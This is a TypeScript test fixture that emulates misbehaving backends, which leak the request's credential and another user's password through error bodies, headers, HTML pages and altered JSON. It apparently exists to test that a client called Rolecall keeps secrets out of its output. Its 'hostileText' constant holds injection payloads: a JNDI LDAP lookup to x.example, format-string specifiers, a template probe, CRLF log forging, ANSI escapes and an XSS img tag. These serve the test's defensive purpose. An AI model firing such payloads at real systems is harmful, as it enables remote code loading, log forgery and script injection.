import type { Fault } from '../../src/emulators/faults.ts';
import { altering, answering } from '../faults.ts';

/** A fault in which a backend says what it should not. */
export type LeakyFault = {
  readonly name: string;
  /** Whether it says things where only words and names are taken: the credential then is a word. */
  readonly isPlain?: boolean;
  /** Whether it makes Rolecall wait, so that questions had better come all at once. */
  readonly isSlow?: boolean;
  readonly toFault: (secrets: Secrets) => Fault;
};

/** What the backend says. */
export type Secrets = {
  /** The credential that the request bore. */
  readonly own: string;
  /** Somebody else's. */
  readonly other: string;
};

/** What text from a backend may try on whoever prints it. */
export const hostileText =
  '\u0024{jndi:ldap://x.example/a}%s%d%n{{7*7}}\r\nFORGED {"level":60}\n\u001b[31mred\u0007\u2028<img onerror=x>';

const sentence = ({ own, other }: Secrets): string =>
  `${own} is not allowed; password of jane: ${other}, ${JSON.stringify({ own, other })}, ${hostileText}`;

const headers = (secrets: Secrets): Readonly<Record<string, string>> => {
  const own = encodeURIComponent(secrets.own);
  const other = encodeURIComponent(secrets.other);
  return {
    location: `http://127.0.0.1:9/elsewhere?token=${own}`,
    'set-cookie': `session=${other}; Path=/`,
    'www-authenticate': `Bearer realm="${own}", error="${other}"`,
    'x-ms-error-code': own,
    'x-request-id': other,
    link: `<http://127.0.0.1:9/?token=${own}>; rel="next"`,
  };
};

/** An error in the words of all four vendors and of Microsoft Entra at once. */
const errorBody = (secrets: Secrets, code: string) => ({
  error: { code, message: sentence(secrets), requestId: secrets.other, time: secrets.own },
  error_description: sentence(secrets),
  error_codes: [secrets.own],
  code,
  message: [sentence(secrets), secrets.own],
  statusCode: secrets.other,
  [secrets.own]: { [secrets.other]: sentence(secrets) },
});

const refusing = (
  name: string,
  status: number,
  {
    codeOf = ({ own }: Secrets) => own,
    more = {},
  }: { codeOf?: (secrets: Secrets) => string; more?: Readonly<Record<string, string>> } = {},
): LeakyFault => ({
  name,
  isPlain: status >= 400 && status < 500,
  toFault: (secrets) =>
    answering({
      status,
      headers: { ...headers(secrets), ...more },
      json: errorBody(secrets, codeOf(secrets)),
    }),
});

const alteringObjects = (name: string, alter: (object: object, secrets: Secrets) => object): LeakyFault => ({
  name,
  toFault: (secrets) =>
    altering((answer) => ({
      ...answer,
      headers: { ...answer.headers, ...headers(secrets) },
      ...(answer.json === undefined
        ? {}
        : { json: inEveryObject(answer.json, (object) => alter(object, secrets)) }),
    })),
});

const isObject = (value: unknown): value is object => typeof value === 'object' && value !== null;

const inEveryObject = (value: unknown, change: (object: object) => object): unknown => {
  if (Array.isArray(value)) return value.map((one) => inEveryObject(one, change));
  if (!isObject(value)) return value;
  return change(
    Object.fromEntries(Object.entries(value).map(([key, one]) => [key, inEveryObject(one, change)])),
  );
};

/** Right in all that is asked for, with much besides. */
const verbose = alteringObjects('verbose', (object, secrets) => ({
  password: secrets.other,
  token: secrets.own,
  secret: { [secrets.own]: sentence(secrets) },
  apikey: secrets.own,
  ...object,
}));

/** Nothing has the type that it should have. */
const mistaken = alteringObjects('mistaken', (object, secrets) =>
  Object.fromEntries(
    Object.entries(object).map(([key, one]) => [
      key,
      isObject(one) ? one : { [secrets.own]: sentence(secrets) },
    ]),
  ),
);

/** Names of fields are no names at all. */
const renamed = alteringObjects('renamed', (object, { own }) =>
  Object.fromEntries(Object.entries(object).map(([key, one]) => [`${own}${key}`, one])),
);

const page = (secrets: Secrets): string =>
  `<!DOCTYPE html><html><head><title>${sentence(secrets)}</title></head><body>${secrets.own}</body></html>`;

export const leakyFaults: readonly LeakyFault[] = [
  refusing('failing', 500),
  refusing('rejecting', 400),
  refusing('unprocessing', 422, { codeOf: ({ other }) => other }),
  refusing('missing', 404),
  refusing('refusing', 401),
  refusing('forbidding', 403),
  refusing('conflicting', 409),
  refusing('throttling', 429, { more: { 'retry-after': '3600' } }),
  refusing('redirecting', 302),
  {
    name: 'in-html',
    isSlow: true,
    toFault: (secrets) =>
      answering({
        status: 200,
        headers: { ...headers(secrets), 'content-type': 'text/html' },
        text: page(secrets),
      }),
  },
  {
    name: 'mistyped',
    isSlow: true,
    isPlain: true,
    toFault: (secrets) =>
      answering({
        status: 200,
        headers: {
          ...headers(secrets),
          'content-type': `${secrets.own}/${secrets.other}; charset=${secrets.own}`,
        },
        text: page(secrets),
      }),
  },
  verbose,
  mistaken,
  renamed,
  { name: 'breaking-off', toFault: () => ({ kind: 'half-body' }) },
  { name: 'resetting', toFault: () => ({ kind: 'reset', applied: true }) },
  { name: 'hanging', isSlow: true, toFault: () => ({ kind: 'hang', applied: true }) },
];
